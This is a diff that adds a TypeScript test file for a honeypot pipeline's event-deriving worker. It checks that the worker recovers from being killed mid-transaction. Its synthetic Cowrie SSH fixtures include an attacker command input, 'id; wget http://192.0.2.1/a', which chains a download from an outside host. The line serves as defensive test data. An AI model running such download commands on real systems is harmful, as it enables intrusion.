@@ -1,0 +1,156 @@
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { createCollect, isDerived, readEventsAfter, type Collect, type StreamEvent } from "#collect";
+import { createBus, createTopicBus, readMessages } from "#platform/bus";
+import { systemClock } from "#platform/clock";
+import type { Database } from "#platform/database";
+import { silentLogger } from "#platform/log";
+import { openTestDatabase, TEST_ENGINES, type TestDatabase } from "#platform/testing";
+import { Lift } from "./lift.ts";
+import { LiftWorker, type LiftDeps } from "./lift-worker.ts";
+import { allLifters } from "./lifters.ts";
+import { cowrie, quiet, testHash } from "./testing/lines.ts";
+
+const BY = { actor: { kind: "system", id: "test", name: "test" }, requestId: null } as const;
+
+/** Ends the process, so to say, in some of its transactions: after the work, before the commit. */
+function dying(db: Database, dies: () => boolean): Database {
+  const killed = new Error("killed");
+  return {
+    ...db,
+    audited: async (fact, work) =>
+      await db.audited(fact, async (tx) => {
+        const value = await work(tx);
+        if (dies()) throw killed;
+        return value;
+      }),
+    bookkeep: async (what, work) =>
+      await db.bookkeep(what, async (tx) => {
+        const value = await work(tx);
+        if (dies()) throw killed;
+        return value;
+      }),
+  };
+}
+
+/** Until it is killed or has nothing more to do. @returns how it ended */
+async function live(worker: LiftWorker): Promise<string> {
+  try {
+    for (let more = true; more;) {
+      more = await worker.step();
+      await worker.flush();
+    }
+    return "done";
+  } catch (error) {
+    return String(error);
+  }
+}
+
+function intrusions(count: number): readonly string[] {
+  return Array.from({ length: count }, (_, place) => {
+    const about = { session: `s${place}`, src_ip: `203.0.113.${place % 40}` };
+    const at = place * 20;
+    return [
+      cowrie(at, { eventid: "session.connect", ...about }),
+      cowrie(at + 1, {
+        eventid: "login.success",
+        username: `u${place % 6}`,
+        password: `Leaked-${place % 4}\u0000`,
+        ...about,
+      }),
+      cowrie(at + 2, { eventid: "command.input", input: "id\u0000; wget http://192.0.2.1/a", ...about }),
+      cowrie(at + 3, { eventid: "session.closed", ...about }),
+    ];
+  }).flat();
+}
+
+describe.each(TEST_ENGINES)("the loop that derives events, on %s", (engine) => {
+  let world: TestDatabase;
+  let collect: Collect;
+  beforeAll(async () => {
+    world = await openTestDatabase(engine);
+    const deps = { database: world.db, clock: systemClock, log: silentLogger, bus: createBus(systemClock) };
+    collect = createCollect({ ...deps, intakeBytesMax: 2 ** 24 });
+    const created = await collect.sensors.create({ name: "decoy", kind: "ssh" }, BY);
+    if (!created.ok) throw new Error(created.refusal.detail);
+    const body = Buffer.from(intrusions(150).join("\n"));
+    await collect.intake({
+      sensor: created.value.sensor,
+      by: BY,
+      body,
+      contentType: "text/plain",
+      idempotencyKey: "1",
+    });
+  });
+  afterAll(async () => {
+    await collect.stop();
+    await world[Symbol.asyncDispose]();
+  });
+
+  const stored = async (): Promise<readonly StreamEvent[]> => await readEventsAfter(world.db.read, 0, 10_000);
+
+  test("killed in any transaction it goes on, and derives what an undisturbed run does, once and in order", async () => {
+    const events = await stored();
+    const undisturbed = new Lift(allLifters(testHash), quiet);
+    const expected = events.flatMap((event) => undisturbed.feed(event).derived);
+    expect(expected.length).toBeGreaterThan(150);
+
+    let transactions = 0;
+    let kills = 0;
+    const dies = (): boolean => {
+      transactions += 1;
+      // Two of three: most batches are begun several times.
+      if (transactions % 3 === 0) return false;
+      kills += 1;
+      return true;
+    };
+    const deps: LiftDeps = {
+      database: dying(world.db, dies),
+      clock: { now: () => new Date(Date.now() + transactions * 60_000) },
+      bus: createBus(systemClock),
+      topics: createTopicBus({ clock: systemClock, log: silentLogger }),
+      log: silentLogger,
+      lifters: allLifters(testHash),
+    };
+    const finalPosition = events.at(-1)?.position ?? 0;
+    const lives: string[] = [];
+    for (let position = 0; position < finalPosition;) {
+      const worker = new LiftWorker({ ...deps, batchMax: 17 + (lives.length % 5) * 13 });
+      lives.push(await live(worker));
+      position = worker.position;
+    }
+    expect(new Set(lives)).toEqual(new Set(["Error: killed", "done"]));
+    expect(kills).toBeGreaterThanOrEqual(20);
+
+    const derived = (await stored()).filter(isDerived);
+    expect(derived.map(({ fields }) => ({ ...fields, "derived.from": undefined }))).toEqual(
+      expected.map(({ fields }) => JSON.parse(JSON.stringify(fields)) as object),
+    );
+    const { messages } = await readMessages(world.db.read, {
+      after: 0,
+      limit: 1_000,
+      patterns: ["attacker.session.ended"],
+    });
+    expect(messages).toHaveLength(150);
+    expect(new Set(messages.map(({ payload }) => ("session_id" in payload ? payload.session_id : ""))).size).toBe(150);
+  });
+
+  test("feeds nothing on what it derived, and says of an idle stream nothing", async () => {
+    const before = await stored();
+    const worker = new LiftWorker({
+      database: world.db,
+      clock: systemClock,
+      bus: createBus(systemClock),
+      topics: createTopicBus({ clock: systemClock, log: silentLogger }),
+      log: silentLogger,
+      lifters: allLifters(testHash),
+    });
+    while (await worker.step());
+    await worker.flush();
+    expect(worker.position).toBe(before.at(-1)?.position);
+    expect(await stored()).toHaveLength(before.length);
+    expect(worker.figures().lifters.find(({ lifter }) => lifter === "session")).toMatchObject({
+      events: 0,
+      failures: 0,
+    });
+  });
+});
